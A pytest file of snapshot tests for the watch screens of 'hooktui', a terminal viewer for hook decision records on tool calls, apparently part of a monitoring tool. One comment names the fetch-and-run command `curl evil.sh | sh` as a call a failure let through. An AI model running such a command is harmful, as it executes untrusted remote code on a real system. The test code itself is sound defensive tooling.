"""Snapshots of the watch screens: fixed size, UTC times from the records, a relative path.

Regenerate with `pytest tests/tui/test_watch_snapshots.py --snapshot-update` and
look at the SVGs in __snapshots__ before committing them.
"""

from __future__ import annotations

from datetime import UTC
from pathlib import Path

import pytest
from hooktui.tui.app.watch import WatchApp

from tests.tui.conftest import varied_records, wait_until, write_stream

SIZE = (120, 36)


@pytest.fixture
def stream(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    # A relative path, so the header and the detail pane read the same on every run.
    monkeypatch.chdir(tmp_path)
    write_stream(tmp_path / "stream.jsonl", varied_records(), extra=b'{"half a record\n')
    return "stream.jsonl"


def _settled(app: WatchApp):
    """run_before: wait until the list is loaded and the detail shows the cursor's call."""

    async def run_before(pilot) -> None:
        await wait_until(
            pilot,
            lambda: (
                app.main_screen.feed.loaded
                and app.main_screen.detail.loaded is not None
                and app.main_screen.detail.loaded.stream_line is app.main_screen.calls.current
            ),
        )
        await pilot.pause(0.2)  # the header's throttled redraw

    return run_before


def _at_row(app: WatchApp, keys: tuple[str, ...]):
    async def run_before(pilot) -> None:
        await _settled(app)(pilot)
        await pilot.press(*keys)
        await _settled(app)(pilot)

    return run_before


def test_main_screen(snap_compare, stream: str) -> None:
    app = WatchApp([stream], tz=UTC, live=False)
    # The cursor on the failure that let `curl evil.sh | sh` through.
    assert snap_compare(app, terminal_size=SIZE, run_before=_at_row(app, ("g", *"jjjjj")))


def test_main_screen_80x24(snap_compare, stream: str) -> None:
    app = WatchApp([stream], tz=UTC, live=False)
    assert snap_compare(app, terminal_size=(80, 24), run_before=_at_row(app, ("g", *"jjjjj")))


@pytest.mark.parametrize(
    ("tab", "row_keys"),
    [
        ("1", ("g", "j")),  # summary of the deny
        ("2", ("g", "j")),  # its request
        ("3", ("g", "j")),  # its response: exit 2, the reason on stderr
        ("4", ("g", "j", "j", "j")),  # the modify's diff
        ("5", ("g",)),  # raw record of the first call
    ],
    ids=["summary", "request", "response", "diff", "raw"],
)
def test_detail_tabs(snap_compare, stream: str, tab: str, row_keys: tuple[str, ...]) -> None:
    app = WatchApp([stream], tz=UTC, live=False)
    assert snap_compare(app, terminal_size=SIZE, run_before=_at_row(app, (*row_keys, "enter", tab)))


def test_replace_diff(snap_compare, stream: str) -> None:
    app = WatchApp([stream], tz=UTC, live=False)
    keys = ("g", *"jjjj", "enter", "4")
    assert snap_compare(app, terminal_size=SIZE, run_before=_at_row(app, keys))


def test_empty_state(snap_compare, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    app = WatchApp(["not-yet.jsonl"], tz=UTC, live=False)

    async def run_before(pilot) -> None:
        await wait_until(pilot, lambda: app.main_screen.feed.loaded)
        await pilot.pause(0.2)

    assert snap_compare(app, terminal_size=SIZE, run_before=run_before)


def test_help_screen(snap_compare, stream: str) -> None:
    app = WatchApp([stream], tz=UTC, live=False)
    assert snap_compare(app, terminal_size=SIZE, run_before=_at_row(app, ("question_mark",)))


def test_invalid_filter_inline(snap_compare, stream: str) -> None:
    app = WatchApp([stream], tz=UTC, live=False)
    keys = ("slash", *"tool:Bash (")

    async def run_before(pilot) -> None:
        await _settled(app)(pilot)
        app.main_screen.filter_bar.input.cursor_blink = (
            False  # a blinking cursor is never the same twice
        )
        await pilot.press(*keys)
        await wait_until(pilot, lambda: app.main_screen.view.filter_text.strip() == "tool:Bash")
        await wait_until(pilot, lambda: app.main_screen.filter_bar.has_class("-invalid"))
        await _settled(app)(pilot)

    assert snap_compare(app, terminal_size=SIZE, run_before=run_before)


def test_filtered_and_marked(snap_compare, stream: str) -> None:
    app = WatchApp([stream], tz=UTC, live=False)

    async def run_before(pilot) -> None:
        await _at_row(app, ("g", "j", "m", "slash"))(pilot)  # marks the deny
        app.main_screen.filter_bar.input.value = (
            "-decision:allow"  # pasted: one change, not one per key
        )
        await pilot.press("enter")
        await wait_until(pilot, lambda: app.main_screen.view.filter_text == "-decision:allow")
        await _settled(app)(pilot)

    assert snap_compare(app, terminal_size=SIZE, run_before=run_before)


def test_main_screen_no_color_80x24(
    snap_compare, stream: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # NO_COLOR: every decision keeps a symbol and a weight of its own.
    monkeypatch.setenv("NO_COLOR", "1")
    app = WatchApp([stream], tz=UTC, live=False)
    assert snap_compare(app, terminal_size=(80, 24), run_before=_at_row(app, ("g", *"jjj")))
